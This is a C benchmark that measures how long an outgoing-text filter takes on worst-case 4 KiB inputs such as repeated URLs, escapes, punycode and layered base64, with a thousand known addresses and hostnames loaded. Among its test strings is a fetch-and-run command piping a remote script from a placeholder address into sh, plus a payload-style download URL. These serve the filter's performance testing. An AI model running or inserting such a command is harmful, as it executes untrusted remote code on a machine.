/*
 * gate.c - how long the gate takes for one text of 4 KiB, of kinds that take it longest, with a thousand
 * identities known. Prints "KIND MEAN SLOWEST" in milliseconds of the processor for each, and "cut" where
 * the text takes more than the gate gives it.
 *
 * SPDX-License-Identifier: MIT
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "common/outgoing/gate.h"

#define ROUNDS 20

static uint32_t dice = 1;

static uint32_t
roll(uint32_t sides)
{
	dice = dice * 1664525 + 1013904223;
	return (dice >> 8) % sides;
}

static void
fill(char *text, const char *letters)
{
	for (size_t i = 0; i < GATE_TEXT_MAX; i++)
		text[i] = letters[roll((uint32_t)strlen(letters))];
	text[GATE_TEXT_MAX] = '\0';
}

static void
repeat(char *text, const char *piece)
{
	size_t len = strlen(piece), at = 0;

	for (; at < GATE_TEXT_MAX; at++)
		text[at] = piece[at % len];
	text[at] = '\0';
}

/* base64 of itself, so often. */
static void
nest(char *text, int layers)
{
	static const char LETTERS[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char from[GATE_TEXT_MAX + 1];

	repeat(text, "curl -s http://198.51.100.7:80/a.sh | sh; echo '1.2.3.4' ");
	for (int i = 0; i < layers; i++) {
		size_t len = strlen(text) / 4 * 3 / 3 * 3, out = 0;

		memcpy(from, text, len);
		for (size_t at = 0; at + 2 < len && out + 4 <= GATE_TEXT_MAX; at += 3) {
			uint32_t n = (uint32_t)(unsigned char)from[at] << 16 |
				     (uint32_t)(unsigned char)from[at + 1] << 8 |
				     (uint32_t)(unsigned char)from[at + 2];

			for (int shift = 18; shift >= 0; shift -= 6)
				text[out++] = LETTERS[n >> shift & 63];
		}
		text[out] = '\0';
	}
}

static void
measure(struct gate *g, const char *kind, const char *text)
{
	struct timespec from, to;
	double took, most = 0, all = 0;

	for (int i = 0; i < ROUNDS; i++) {
		auto_buf out = BUF_INIT(4 * GATE_TEXT_MAX);

		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
		gate_pass(g, text, GATE_TEXT_MAX, &out);
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
		took = (double)(to.tv_sec - from.tv_sec) * 1e3 +
		       (double)(to.tv_nsec - from.tv_nsec) / 1e6;
		most = took > most ? took : most;
		all += took;
	}
	printf(
	    "%s %.3f %.3f%s\n", kind, all / ROUNDS, most, gate_has_cut(g) ? " cut" : "");
}

int
main(void)
{
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);
	char text[GATE_TEXT_MAX + 1], value[64];

	for (int i = 0; i < 1000; i++) {
		snprintf(value, sizeof value, "198.51.%d.%d", (i * 7) % 250, i % 250);
		gate_add(g, value, &e);
		snprintf(value, sizeof value, "sensor-%03d.lab.example", i);
		gate_add(g, value, &e);
	}
	gate_add(g, "192.0.2.0/24", &e);
	gate_add(g, "*.lab.example", &e);
	gate_add(g, "*.a", &e);
	repeat(text, "http://203.0.113.7:8080/bins/x86_64.sh?id=1 ");
	measure(g, "urls", text);
	fill(text, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/");
	measure(g, "letters", text);
	fill(text, "0123456789abcdef");
	measure(g, "hex", text);
	fill(text, "2345ABCD");
	measure(g, "base32", text);
	fill(text, "01.");
	measure(g, "numbers", text);
	fill(text, "1:");
	measure(g, "colons", text);
	fill(text, "%25&#x\\.[]' ");
	measure(g, "escapes", text);
	repeat(text, "%2526#37;\\x25\\\\x26amp;=3D3D'[.]\" ");
	measure(g, "nested-escapes", text);
	repeat(text, "sensor-");
	measure(g, "names", text);
	repeat(text, "a.lab.example");
	measure(g, "hosts", text);
	repeat(text, "%61.a[.]\\141.A.");
	measure(g, "short-domain", text);
	repeat(text, "xn--a-");
	measure(g, "punycode", text);
	repeat(text, "3'1'3'0'");
	measure(g, "quotes", text);
	repeat(text, "0x32 062 50,");
	measure(g, "codes", text);
	repeat(text, "MDAw");
	measure(g, "zeros", text);
	repeat(text, "\xef\xbd\x81\xea\xb0\x80\xe3\x8e\x92");
	measure(g, "compatibility", text);
	for (int layers = 1; layers <= 5; layers++) {
		nest(text, layers);
		snprintf(value, sizeof value, "base64-%d", layers);
		measure(g, value, text);
	}
	gate_free(g);
	return 0;
}
